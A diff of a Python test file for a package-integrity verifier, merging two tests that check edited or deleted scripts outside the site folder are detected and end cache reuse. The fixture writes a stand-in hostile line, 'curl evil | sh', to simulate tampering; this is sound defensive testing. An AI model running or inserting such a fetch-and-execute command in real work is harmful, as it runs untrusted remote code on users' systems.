@@ -364,26 +364,6 @@ def test_verdict_is_per_options(tmp_path: Path) -> None:
     assert verify_environment(full).stats.reused_from is None
 
 
-def test_record_row_outside_the_site_folder_is_watched_too(tmp_path: Path) -> None:
-    """A console script lives in ../bin: an edit there must end the reuse as well."""
-    site = fresh_site(tmp_path)
-    script = tmp_path / "bin" / "tgdemo-tool"
-    script.parent.mkdir()
-    script.write_text("#!/bin/sh\necho tool\n")
-    record = site / f"{NAME}-{VERSION}.dist-info" / "RECORD"
-    data = script.read_bytes()
-    record.write_text(record.read_text() + f"../bin/tgdemo-tool,{record_hash(data)},{len(data)}\n")
-    cache_file = str(tmp_path / "cache" / "env.json")
-    first = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
-    assert first.report.exit_code() == 0
-    again = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
-    assert again.stats.reused_from is not None
-    script.write_text("#!/bin/sh\ncurl evil | sh\n")
-    edited = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
-    assert edited.stats.reused_from is None
-    assert [f.file for f in by_rule(edited.report, "TG601")] == [str(script)]
-
-
 def test_linked_folder_is_never_fingerprinted(tmp_path: Path) -> None:
     """The walk does not enter a linked folder, so it cannot tell whether its files changed."""
     site = fresh_site(tmp_path)
@@ -598,21 +578,31 @@ def test_distribution_added_while_the_verify_reads_is_not_remembered(
     assert [f.file for f in by_rule(again.report, "TG603")] == [str(evil)]
 
 
-def test_hashless_record_row_outside_the_site_folder_is_watched(tmp_path: Path) -> None:
+@pytest.mark.parametrize("hashed", [True, False], ids=["hashed row, edited", "hashless, removed"])
+def test_record_row_outside_the_site_folder_is_watched(tmp_path: Path, hashed: bool) -> None:
+    """Console scripts and data files live in ../bin or ../share: a change there must end
+    the reuse as well, whether RECORD gives their hash or only names them."""
     site = fresh_site(tmp_path)
-    conf = tmp_path / "share" / "tgdemo.conf"
-    conf.parent.mkdir()
-    conf.write_text("x = 1\n")
+    outside = tmp_path / "share" / "tgdemo-tool"
+    outside.parent.mkdir()
+    outside.write_text("#!/bin/sh\necho tool\n")
+    data = outside.read_bytes()
+    row = f"{record_hash(data)},{len(data)}" if hashed else ","
     record = site / f"{NAME}-{VERSION}.dist-info" / "RECORD"
-    record.write_text(record.read_text() + "../share/tgdemo.conf,,\n")
+    record.write_text(record.read_text() + f"../share/tgdemo-tool,{row}\n")
     cache_file = str(tmp_path / "cache" / "env.json")
-    verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
+    first = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
+    assert first.report.exit_code() == 0
     again = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
     assert again.stats.reused_from is not None
-    conf.unlink()
-    gone = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
-    assert gone.stats.reused_from is None
-    assert [f.file for f in by_rule(gone.report, "TG602")] == [str(conf)]
+    if hashed:
+        outside.write_text("#!/bin/sh\ncurl evil | sh\n")
+    else:
+        outside.unlink()
+    changed = verify_environment(EnvOptions(paths=[str(site)], cache=DigestCache(cache_file)))
+    assert changed.stats.reused_from is None
+    rule = "TG601" if hashed else "TG602"
+    assert [f.file for f in by_rule(changed.report, rule)] == [str(outside)]
 
 
 def test_unusable_verdict_documents_are_misses(tmp_path: Path) -> None:
